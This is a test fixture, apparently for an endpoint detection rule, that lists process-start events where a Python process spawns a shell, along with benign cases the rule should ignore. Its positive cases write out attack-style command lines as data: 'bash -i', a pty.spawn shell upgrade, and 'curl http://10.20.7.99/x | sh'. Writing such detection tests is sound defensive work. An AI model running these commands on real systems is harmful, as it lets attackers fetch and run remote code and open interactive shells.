import { auditbeatStart, linuxStart, proof, set } from '../../proof';

const python = (version = '3.11') => ({
  parentExecutable: `/usr/bin/python${version}`,
  parentCommandLine: `python${version} /mnt/ingress/fit.py`,
});

export default proof({
  plain: true,
  hits: [
    set(
      'a script opens an interactive shell',
      linuxStart({ executable: '/usr/bin/bash', commandLine: 'bash -i', ...python() })
    ),
    set(
      'os.system runs a line that fetches something, below another Python',
      linuxStart({
        executable: '/usr/bin/dash',
        commandLine: 'sh -c cd /tmp && curl http://10.20.7.99/x | sh',
        ...python('3'),
      })
    ),
    set(
      'a one-line call opens a terminal, seen by Auditbeat',
      auditbeatStart({
        executable: '/usr/bin/python3.9',
        commandLine: 'python3.9 -c import(pty);pty.spawn("/bin/bash")',
      })
    ),
    set(
      'a shell of an environment of conda, below pypy',
      linuxStart({
        executable: '/opt/conda/bin/zsh',
        commandLine: '/opt/conda/bin/zsh',
        parentExecutable: '/opt/conda/bin/pypy3',
        parentCommandLine: 'pypy3 run.py',
      })
    ),
  ],
  misses: [
    set(
      "Python's platform module asks for the processor",
      linuxStart({
        executable: '/usr/bin/dash',
        commandLine: '/bin/sh -c uname -p 2> /dev/null',
        ...python(),
      })
    ),
    set(
      "Python's ctypes looks for a library",
      linuxStart({
        executable: '/usr/bin/dash',
        commandLine: '/bin/sh -c LC_ALL=C LANG=C /sbin/ldconfig -p 2>/dev/null',
        ...python('3'),
      })
    ),
    set(
      'a one-line call prints a version, seen by Auditbeat',
      auditbeatStart({
        executable: '/usr/bin/python3.9',
        commandLine: 'python3.9 -c import(numpy);print(numpy.__version__)',
      })
    ),
    set(
      'a person opens a shell in a terminal',
      linuxStart({
        executable: '/usr/bin/bash',
        commandLine: 'bash',
        parentExecutable: '/usr/libexec/gnome-terminal-server',
        parentCommandLine: '/usr/libexec/gnome-terminal-server',
      })
    ),
  ],
});
